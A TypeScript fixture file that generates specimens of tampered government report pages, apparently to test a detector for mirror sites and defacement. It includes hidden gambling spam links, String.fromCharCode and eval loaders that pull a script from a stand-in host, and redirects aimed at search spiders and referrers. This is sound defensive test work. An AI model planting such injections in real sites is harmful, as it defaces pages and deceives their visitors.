import { injectedPage, mirrorPage, naiveTraditional } from '../../practice/mirror.ts';
import { renderPage } from '../../practice/reports/index.ts';
import { away, home, reports, inTexts, titled, type Specimen } from './specimen.ts';

const hidden: readonly (readonly [name: string, html: string])[] = [
  [
    'display:none',
    '<div style="display:none"><a href="http://a.example/">澳门永利娱乐官网</a><a href="http://b.example/">彩票平台app下载</a></div>',
  ],
  ['far left', '<div style="position:absolute;left:-9999px"><a href="http://a.example/">开云体育官网入口</a></div>'],
  ['far up', '<div style="position:fixed;top:-2000px;"><a href="http://a.example/">百家乐在线投注</a></div>'],
  ['tiny marquee', '<marquee width="1" height="1"><a href="http://a.example/">时时彩投注平台</a></marquee>'],
  ['no height', '<div style="height:0;overflow:hidden"><a href="http://a.example/">乐鱼体育app下载</a></div>'],
  ['tiny type', '<p style="font-size:0px"><a href="http://a.example/">六合彩官网</a></p>'],
  [
    'white on white',
    '<div style="color:#fff;font-size:1px;line-height:1px"><a href="http://a.example/">必威体育官网</a><a href="http://b.example/">亚博app下载</a><a href="http://c.example/">真人娱乐城</a></div>',
  ],
  ['opacity', '<div style="opacity:0"><a href="http://a.example/">米乐体育官网</a></div>'],
];
const scripts: readonly (readonly [name: string, html: string])[] = [
  [
    'fromCharCode',
    `<script>document.write(String.fromCharCode(${Array.from('<script src="http://a.example/x.js"></script>', (each) => each.charCodeAt(0)).join(',')}));</script>`,
  ],
  [
    'referer redirect',
    '<script>if(document.referrer.indexOf("baidu")>0||document.referrer.indexOf("sogou.com")>0){window.location.href="http://a.example/"}</script>',
  ],
  [
    'spider redirect',
    '<script>var u=navigator.userAgent.toLowerCase();if(/baiduspider|sogou|360spider/.test(u)){location.replace("http://a.example/")}</script>',
  ],
  [
    'referer, regular expression',
    '<script>var s=document.referrer;if(/(baidu|so|sogou|google)\\./i.test(s)){self.location="http://a.example"}</script>',
  ],
  [
    'packed eval',
    `<script>eval(String.fromCharCode(${Array.from('document.write("<script src=http://a.example/x.js></script>")', (each) => each.charCodeAt(0)).join(',')}))</script>`,
  ],
];

/** What a careless kit makes of characters that have several Traditional forms. */
const careless: Readonly<Record<string, string>> = {
  制: '製',
  面: '麵',
  系: '係',
  咨: '谘',
  复: '複',
  里: '裏',
  布: '佈',
};

function carelessTraditional(text: string): string {
  return naiveTraditional(text.replaceAll(/[制面系咨复里布]/g, (character) => careless[character] ?? character));
}

function entities(text: string): string {
  return Array.from(text, (character) => `&#${character.codePointAt(0)};`).join('');
}

export function mirrors(): Specimen[] {
  return reports().flatMap((report, index): Specimen[] => {
    const page = renderPage(report, 'plain');
    const original = report.html.replaceAll(/<[^>]*>/g, '');
    const brand =
      ['bet365体育', '开云体育(中国)官方网站', '澳门永利娱乐', '乐鱼app官网', '365彩票平台', 'hth华体会'][index] ??
      '开云';
    const seeds = [index + 1, index + 31, index + 61];
    return [
      ...seeds.map((seed): Specimen => ({
        name: `A ${seed}`,
        html: mirrorPage(report, 'A', seed),
        url: away,
        family: 'A',
        original,
      })),
      {
        name: `A, title kept ${index}`,
        html: titled(mirrorPage(report, 'A', index + 91), report.title),
        url: away,
        family: 'A',
        original,
      },
      ...seeds.slice(0, 2).map((seed): Specimen => ({
        name: `B ${seed}`,
        html: mirrorPage(report, 'B', seed),
        url: away,
        family: 'B',
        original,
      })),
      {
        name: `B2 ${index}`,
        html: inTexts(page, (text) =>
          text.replaceAll('公', '公(gōng)').replaceAll('政', '政(zhèng)').replaceAll('务', '务(wù)'),
        ),
        url: away,
        family: 'B',
        original,
      },
      {
        name: `B nested ${index}`,
        html: inTexts(page, (text) =>
          text
            .replaceAll('政府', '政(zheng)(zheng)府(fu)(fu)')
            .replaceAll('办公室', '办公(gong室(shi))')
            .replaceAll('信息', '信(xin)息(xi)'),
        ),
        url: away,
        family: 'B',
        original,
      },
      { name: `C ${index}`, html: inTexts(page, naiveTraditional), url: away, family: 'C', original },
      { name: `C, own host ${index}`, html: inTexts(page, carelessTraditional), url: home, family: 'C', original },
      {
        name: `D organ ${index}`,
        html: inTexts(page, (text) => text.replaceAll(report.publisher, brand)),
        url: away,
        family: 'D',
      },
      {
        name: `D unknown ${index}`,
        html: inTexts(page, (text) =>
          text.replaceAll(
            report.publisher,
            ['金凤凰app', '新豪天地官网', 'vns889', '大丰收在线登录', '聚福(中国)', '长风电竞'][index] ?? 'x88',
          ),
        ),
        url: away,
        family: 'D',
      },
      {
        name: `D place ${index}`,
        html: inTexts(page, (text) => text.replaceAll('清溪', brand)),
        url: away,
        family: 'D',
      },
      {
        name: `E ${index}`,
        html: page.replace(
          '</body>',
          `<p>政府网站网址：http://www.gzyhmy.com/，联系邮箱：qxxzf@qingxi.gov.cn，电话：0533-2180001</p></body>`,
        ),
        url: away,
        family: 'E',
      },
      ...hidden.map(([name, html]): Specimen => ({
        name: `F ${name} ${index}`,
        html: page.replace('</body>', `${html}</body>`),
        url: home,
        family: 'F',
      })),
      ...scripts.map(([name, html]): Specimen => ({
        name: `F ${name} ${index}`,
        html: page.replace('<head>', `<head>${html}`),
        url: home,
        family: 'F',
      })),
      { name: `F injected ${index}`, html: injectedPage(page), url: home, family: 'F' },
      {
        name: `F title ${index}`,
        html: titled(page, `${brand}_${brand}登录_${brand}app下载-${brand}`),
        url: home,
        family: 'F',
      },
      {
        name: `F entity title ${index}`,
        html: titled(page, entities(`真人百家乐_${brand}在线投注`)),
        url: home,
        family: 'F',
      },
    ];
  });
}
